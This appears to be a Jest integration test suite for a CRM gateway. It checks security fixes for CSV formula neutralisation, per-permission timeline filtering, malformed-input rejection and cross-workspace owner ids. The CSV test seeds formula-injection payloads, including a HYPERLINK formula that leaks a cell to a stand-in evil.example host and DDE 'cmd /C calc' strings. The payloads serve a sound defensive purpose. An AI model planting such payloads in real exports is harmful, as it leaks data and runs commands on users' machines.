import { randomBytes } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { jetstreamManager, type JetStreamManager } from '@nats-io/jetstream';
import { connect, type NatsConnection } from '@nats-io/transport-node';
import type { Role } from '@kinship/contracts';
import type { RunningService } from '@kinship/platform';
import { createTestEnvironment, startTestService, type TestEnvironment } from '@kinship/testing';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { authService } from '../../auth/src/auth.service.js';
import { crmService } from '../../crm/src/crm.service.js';
import { eventually, expectError } from '../../crm/test/support.js';
import { startGateway } from '../src/gateway.js';
import { invitationToken } from './support.js';

// --- the stack: auth, crm and the gateway of this suite, talked to only through HTTP ---

const PASSWORD = 'amber-cobalt-violin-meadow-4';

/** An answer, as crm's test support reads them (its expectError and eventually serve here too). */
interface Reply {
  status: number;
  body: any;
  headers: Headers;
}

/** Someone signed in (a user's access token) or an API key. */
interface Caller {
  userId: string;
  workspaceId: string;
  credentials: Record<string, string>;
  request(method: string, path: string, body?: unknown, headers?: Record<string, string>): Promise<Reply>;
}

let environment: TestEnvironment;
let auth: RunningService;
let crm: RunningService;
let gateway: RunningService;
let nats: NatsConnection;
let streams: JetStreamManager;
let api: string;

beforeAll(async () => {
  environment = await createTestEnvironment('security-inputs');
  auth = await startTestService(authService, environment);
  crm = await startTestService(crmService, environment);
  gateway = await startGateway(environment.env);
  api = `${gateway.url}/api/v1`;
  nats = await connect({ servers: environment.natsUrl });
  streams = await jetstreamManager(nats);
}, 60_000);

afterAll(async () => {
  await gateway?.close();
  await crm?.close();
  await auth?.close();
  await nats?.close();
  await environment?.dispose();
});

async function send(method: string, path: string, credentials: Record<string, string>, body?: unknown, headers: Record<string, string> = {}): Promise<Reply> {
  const bodyText = body === undefined ? undefined : typeof body === 'string' ? body : JSON.stringify(body);
  const response = await fetch(`${api}${path}`, {
    method,
    headers: { ...credentials, ...(bodyText === undefined ? {} : { 'content-type': 'application/json' }), ...headers },
    body: bodyText,
  });
  const type = response.headers.get('content-type') ?? '';
  const text = await response.text();
  return { status: response.status, body: type.includes('json') && text ? JSON.parse(text) : text, headers: response.headers };
}

function callerOf(userId: string, workspaceId: string, credentials: Record<string, string>): Caller {
  return { userId, workspaceId, credentials, request: (method, path, body, headers) => send(method, path, credentials, body, headers) };
}

async function signUp(label: string): Promise<Caller> {
  const registered = await send(
    'POST',
    '/auth/register',
    {},
    { email: `${label}-${randomBytes(4).toString('hex')}@example.com`, password: PASSWORD, name: label, workspaceName: `${label} workspace` },
  );
  expect(registered.status).toBe(201);
  return callerOf(registered.body.user.id, registered.body.workspace.id, { authorization: `Bearer ${registered.body.accessToken}` });
}

/** Invites someone with the role into the owner's workspace and accepts for them. */
async function addMember(owner: Caller, role: Role): Promise<Caller> {
  const invitation = await owner.request('POST', '/invitations', { email: `${role}-${randomBytes(4).toString('hex')}@example.com`, role });
  expect(invitation.status).toBe(201);
  const accepted = await send(
    'POST',
    '/invitations/accept',
    {},
    { token: await invitationToken(environment, streams, invitation.body.id), name: `A ${role}`, password: PASSWORD },
  );
  expect(accepted.status).toBe(201);
  return callerOf(accepted.body.user.id, owner.workspaceId, { authorization: `Bearer ${accepted.body.accessToken}` });
}

async function apiKey(owner: Caller, scopes: string[]): Promise<Caller> {
  const created = await owner.request('POST', '/api-keys', { name: `key ${randomBytes(3).toString('hex')}`, scopes });
  expect(created.status).toBe(201);
  return callerOf('', owner.workspaceId, { 'x-api-key': created.body.key });
}

describe('finding 4: CSV exports neutralise formula cells (OWASP CSV injection)', () => {
  let owner: Caller;

  async function exported(entity: string, format: 'csv' | 'xlsx', filter: Record<string, unknown>): Promise<Buffer> {
    const created = await owner.request('POST', '/exports', { entity, filter, format });
    expect(created.status).toBe(202);
    await eventually(async () => {
      const status = await owner.request('GET', `/exports/${created.body.id}`, undefined, { accept: 'application/json' });
      expect(status.body.status).not.toBe('failed');
      return status.body.status === 'completed';
    }, 30_000);
    const file = await fetch(`${api}/exports/${created.body.id}`, { headers: owner.credentials });
    expect(file.status).toBe(200);
    return Buffer.from(await file.arrayBuffer());
  }

  beforeAll(async () => {
    owner = await signUp('csv');
    expect((await owner.request('POST', '/custom-fields', { entity: 'contact', key: 'note', label: 'Note', type: 'text' })).status).toBe(201);
    expect((await owner.request('POST', '/custom-fields', { entity: 'contact', key: 'balance', label: 'Balance', type: 'number' })).status).toBe(201);
    const contact = await owner.request('POST', '/contacts', {
      firstName: '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
      lastName: "@SUM(1+1)*cmd|' /C calc'!A0",
      jobTitle: "-2+3+cmd|' /C calc'!A0",
      leadSource: '+SUM(1,2)',
      phone: '+14155550123',
      tags: ['csv-injection', '=1+1'],
      customFields: { note: '-5', balance: -5 },
    });
    expect(contact.status).toBe(201);
  });

  it('prefixes cells starting with = + - @ with a quote, and leaves an E.164 phone, a plain number and numeric fields as they are', async () => {
    const rows: Array<Record<string, string>> = parse(await exported('contacts', 'csv', { tags: ['csv-injection'] }), { columns: true });
    expect(rows).toHaveLength(1);
    expect(rows[0]).toMatchObject({
      firstName: '\'=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
      lastName: "'@SUM(1+1)*cmd|' /C calc'!A0",
      jobTitle: "'-2+3+cmd|' /C calc'!A0",
      leadSource: "'+SUM(1,2)",
      phone: '+14155550123',
      tags: 'csv-injection;=1+1',
      'cf:note': '-5',
      'cf:balance': '-5',
    });
  });

  it('keeps XLSX cells as inline strings, never formulas', async () => {
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await exported('contacts', 'xlsx', { tags: ['csv-injection'] })) as unknown as ArrayBuffer);
    const sheet = workbook.worksheets[0]!;
    const headers = (sheet.getRow(1).values as unknown[]).slice(1);
    const cell = (header: string) => sheet.getRow(2).getCell(headers.indexOf(header) + 1);
    expect(cell('firstName').type).toBe(ExcelJS.ValueType.String);
    expect(cell('firstName').value).toBe('=HYPERLINK("http://evil.example/?leak="&A1,"click me")');
    expect(cell('phone').value).toBe('+14155550123');
    expect(cell('cf:balance').value).toBe(-5);
  });
});

describe('finding 5: timelines show only the entries the caller may read', () => {
  let owner: Caller;
  let contactId: string;
  let companyId: string;
  let dealId: string;

  async function allEntries(caller: Caller, path: string, limit: number): Promise<Array<{ id: string; kind: string }>> {
    const entries: Array<{ id: string; kind: string }> = [];
    let cursor: string | null = null;
    do {
      const page: Reply = await caller.request('GET', `${path}?limit=${limit}${cursor ? `&cursor=${encodeURIComponent(cursor)}` : ''}`);
      expect(page.status).toBe(200);
      // A page is never empty while there is a next one: forbidden entries are left out by the query, not after it.
      if (page.body.nextCursor) expect(page.body.data).toHaveLength(limit);
      entries.push(...page.body.data);
      cursor = page.body.nextCursor;
    } while (cursor);
    return entries;
  }

  beforeAll(async () => {
    owner = await signUp('timeline');
    companyId = (await owner.request('POST', '/companies', { name: 'Secretive Inc' })).body.id;
    contactId = (await owner.request('POST', '/contacts', { firstName: 'Tim', lastName: 'Line', companyId })).body.id;
    const deal = await owner.request('POST', '/deals', { name: 'Confidential merger', amount: 990000, currency: 'EUR', companyId, contactIds: [contactId] });
    expect(deal.status).toBe(201);
    dealId = deal.body.id;
    const pipeline = await owner.request('GET', `/pipelines/${deal.body.pipelineId}`);
    const open = pipeline.body.stages.filter((stage: { kind: string }) => stage.kind === 'open');
    // Notes, tasks and stage changes interleave in time, so filtered pages must skip entries in the middle.
    for (let round = 0; round < 3; round += 1) {
      for (const related of [
        { type: 'contact', id: contactId },
        { type: 'company', id: companyId },
        { type: 'deal', id: dealId },
      ]) {
        expect((await owner.request('POST', '/notes', { body: `secret note ${round}`, related })).status).toBe(201);
        expect((await owner.request('POST', '/tasks', { title: `secret task ${round}`, related })).status).toBe(201);
      }
      expect((await owner.request('POST', `/deals/${dealId}/stage`, { stageId: open[(round + 1) % open.length].id })).status).toBe(200);
    }
  });

  it('an API key with contacts:read reads no note, task or deal through the contact timeline, as GET /notes refuses it', async () => {
    const reader = await apiKey(owner, ['contacts:read']);
    expectError(await reader.request('GET', '/notes'), 403);
    const everything = await allEntries(owner, `/contacts/${contactId}/timeline`, 100);
    expect(new Set(everything.map((entry) => entry.kind))).toEqual(new Set(['note', 'task_created', 'deal_stage_changed']));
    const page = await reader.request('GET', `/contacts/${contactId}/timeline`);
    expect(page.status).toBe(200);
    expect(page.body).toEqual({ data: [], nextCursor: null });
    expect(JSON.stringify(page.body)).not.toMatch(/secret|Confidential/);
  });

  it('each kind needs its own read permission, and pages of the rest neither come back short nor repeat', async () => {
    const cases: Array<{ path: string; scopes: string[]; kinds: string[] }> = [
      { path: `/contacts/${contactId}/timeline`, scopes: ['contacts:read', 'notes:read'], kinds: ['note'] },
      { path: `/contacts/${contactId}/timeline`, scopes: ['contacts:read', 'tasks:read', 'deals:read'], kinds: ['task_created', 'deal_stage_changed'] },
      { path: `/companies/${companyId}/timeline`, scopes: ['companies:read', 'tasks:read'], kinds: ['task_created'] },
      { path: `/companies/${companyId}/timeline`, scopes: ['companies:read', 'deals:read'], kinds: ['deal_stage_changed'] },
      { path: `/deals/${dealId}/timeline`, scopes: ['deals:read'], kinds: ['deal_stage_changed'] },
      { path: `/deals/${dealId}/timeline`, scopes: ['deals:read', 'notes:read'], kinds: ['note', 'deal_stage_changed'] },
    ];
    for (const { path, scopes, kinds } of cases) {
      const expected = (await allEntries(owner, path, 500)).filter((entry) => kinds.includes(entry.kind));
      expect(expected.length).toBeGreaterThan(1);
      const seen = await allEntries(await apiKey(owner, scopes), path, 2);
      expect({ path, scopes, seen }).toEqual({ path, scopes, seen: expected });
    }
  });

  it('a user whose role reads everything still sees every kind', async () => {
    const viewer = await addMember(owner, 'viewer');
    const kinds = new Set((await allEntries(viewer, `/companies/${companyId}/timeline`, 3)).map((entry) => entry.kind));
    expect(kinds).toEqual(new Set(['note', 'task_created', 'deal_stage_changed']));
  });
});

describe('finding 9: NUL characters, deep nesting and out-of-range numbers are 4xx, not 500', () => {
  let owner: Caller;

  function nested(depth: number): string {
    return '{"a":'.repeat(depth) + '1' + '}'.repeat(depth);
  }

  beforeAll(async () => {
    owner = await signUp('inputs');
  });

  it('refuses a NUL character in a body string, naming the field, and stores nothing', async () => {
    const before = (await owner.request('GET', '/contacts?limit=500')).body.data.length;
    expectError(await owner.request('POST', '/contacts', { firstName: 'a\u0000b' }), 422, 'firstName');
    expectError(await owner.request('POST', '/contacts', { firstName: 'ok', tags: ['fine', 'x\u0000'] }), 422, 'tags.1');
    expectError(await owner.request('POST', '/companies', { name: 'Acme', address: { city: 'Pa\u0000ris' } }), 422, 'address.city');
    expectError(await owner.request('POST', '/contacts', { firstName: 'ok', customFields: { 'ke\u0000y': 'v' } }), 422, 'customFields');
    expect((await owner.request('GET', '/contacts?limit=500')).body.data.length).toBe(before);
  });

  it('refuses a NUL character in a query value with 400 naming the parameter', async () => {
    const reply = await owner.request('GET', '/contacts?q=%00');
    expectError(reply, 400, 'q');
    expect(reply.body.error.code).toBe('invalid_parameter');
    expectError(await owner.request('GET', '/companies?industry=a%00b'), 400);
    expectError(await owner.request('GET', '/notes?q=x%00'), 400, 'q');
  });

  it('refuses JSON nested 10,000 levels deep with 400, wherever it sits', async () => {
    const deep = nested(10_000);
    for (const [path, body] of [
      ['/contacts', `{"firstName":"Deep","customFields":${deep}}`],
      ['/segments', `{"name":"deep","kind":"dynamic","filter":${deep}}`],
      ['/exports', `{"entity":"contacts","format":"csv","filter":${deep}}`],
      ['/contacts', '['.repeat(10_000) + ']'.repeat(10_000)],
    ] as const) {
      const reply = await owner.request('POST', path, body);
      expectError(reply, 400);
      expect(reply.body.error.code).toBe('malformed_json');
    }
    // Sensible nesting still reaches the service, which judges the content (an unknown custom field).
    expectError(await owner.request('POST', '/contacts', `{"firstName":"Shallow","customFields":${nested(5)}}`), 422, 'customFields.a');
  });

  it('refuses the same in the form fields of a multipart import, which bypass the JSON parser', async () => {
    async function upload(mapping: string): Promise<Reply> {
      const form = new FormData();
      form.append('entity', 'contacts');
      form.append('mapping', mapping);
      form.append('file', new Blob(['Email\nada@example.com\n']), 'contacts.csv');
      const response = await fetch(`${api}/imports`, { method: 'POST', headers: owner.credentials, body: form });
      return { status: response.status, body: await response.json(), headers: response.headers };
    }
    const deep = await upload(`{"Email":${nested(10_000)}}`);
    expectError(deep, 422);
    expect(deep.body.error.details).toEqual([{ field: expect.stringMatching(/^mapping\.Email\./), issue: 'nests deeper than 32 levels' }]);
    expectError(await upload('{"Em\\u0000ail":"email"}'), 422, 'mapping');
    expectError(await upload('{"Email":"em\\u0000ail"}'), 422, 'mapping.Email');
  });

  it('refuses integers beyond Number.MAX_SAFE_INTEGER in a query (400) or a body (422), naming them', async () => {
    const query = await owner.request('GET', '/deals?amountFrom=99999999999999999999999');
    expectError(query, 400, 'amountFrom');
    expect(query.body.error.code).toBe('invalid_parameter');
    expectError(await owner.request('GET', '/deals?amountTo=9007199254740992'), 400, 'amountTo');
    expect((await owner.request('GET', '/deals?amountFrom=9007199254740991')).status).toBe(200);
    expect((await owner.request('POST', '/custom-fields', { entity: 'deal', key: 'seats', label: 'Seats', type: 'number' })).status).toBe(201);
    expectError(
      await owner.request('POST', '/deals', '{"name":"Huge","amount":1,"currency":"EUR","customFields":{"seats":99999999999999999999999}}'),
      422,
      'customFields.seats',
    );
    expectError(await owner.request('POST', '/deals', '{"name":"Huge","amount":99999999999999999999999,"currency":"EUR"}'), 422, 'amount');
  });
});

describe('finding 10: owner and assignee ids must be active users of the workspace', () => {
  let owner: Caller;
  let member: Caller;
  let stranger: Caller;

  beforeAll(async () => {
    owner = await signUp('owners');
    member = await addMember(owner, 'member');
    stranger = await signUp('stranger');
  });

  it("refuses another workspace's user as owner of a contact, company or deal (422 ownerId), on create and update", async () => {
    for (const [path, body] of [
      ['/contacts', { firstName: 'Owned' }],
      ['/companies', { name: `Owned ${randomBytes(3).toString('hex')}` }],
      ['/deals', { name: 'Owned', amount: 100, currency: 'EUR' }],
    ] as const) {
      expectError(await owner.request('POST', path, { ...body, ownerId: stranger.userId }), 422, 'ownerId');
      const created = await owner.request('POST', path, { ...body, ownerId: member.userId });
      expect(created.status).toBe(201);
      expect(created.body.ownerId).toBe(member.userId);
      expectError(await owner.request('PATCH', `${path}/${created.body.id}`, { ownerId: stranger.userId }), 422, 'ownerId');
      expectError(await owner.request('PATCH', `${path}/${created.body.id}`, { ownerId: '0193a3c4-0000-7000-8000-000000000000' }), 422, 'ownerId');
      expect((await owner.request('GET', `${path}/${created.body.id}`)).body.ownerId).toBe(member.userId);
    }
  });

  it("refuses another workspace's user as assignee of a task, on create, update and assign", async () => {
    expectError(await owner.request('POST', '/tasks', { title: 'Call back', assigneeId: stranger.userId }), 422, 'assigneeId');
    const task = await owner.request('POST', '/tasks', { title: 'Call back', assigneeId: member.userId });
    expect(task.status).toBe(201);
    expectError(await owner.request('PATCH', `/tasks/${task.body.id}`, { assigneeId: stranger.userId }), 422, 'assigneeId');
    expectError(await owner.request('POST', `/tasks/${task.body.id}/assign`, { assigneeId: stranger.userId }), 422, 'assigneeId');
    expect((await owner.request('GET', `/tasks/${task.body.id}`)).body.assigneeId).toBe(member.userId);
    expect((await owner.request('POST', `/tasks/${task.body.id}/assign`, { assigneeId: null })).status).toBe(200);
  });

  it('refuses a deactivated member, while records they already own stay editable', async () => {
    const colleague = await addMember(owner, 'manager');
    const contact = await owner.request('POST', '/contacts', { firstName: 'Kept', ownerId: colleague.userId });
    expect(contact.status).toBe(201);
    expect((await owner.request('DELETE', `/users/${colleague.userId}`)).status).toBe(204);
    expectError(await owner.request('POST', '/contacts', { firstName: 'Orphan', ownerId: colleague.userId }), 422, 'ownerId');
    expectError(await owner.request('POST', '/tasks', { title: 'For nobody', assigneeId: colleague.userId }), 422, 'assigneeId');
    const renamed = await owner.request('PATCH', `/contacts/${contact.body.id}`, { firstName: 'Still kept' });
    expect(renamed.status).toBe(200);
    expect(renamed.body.ownerId).toBe(colleague.userId);
  });
});
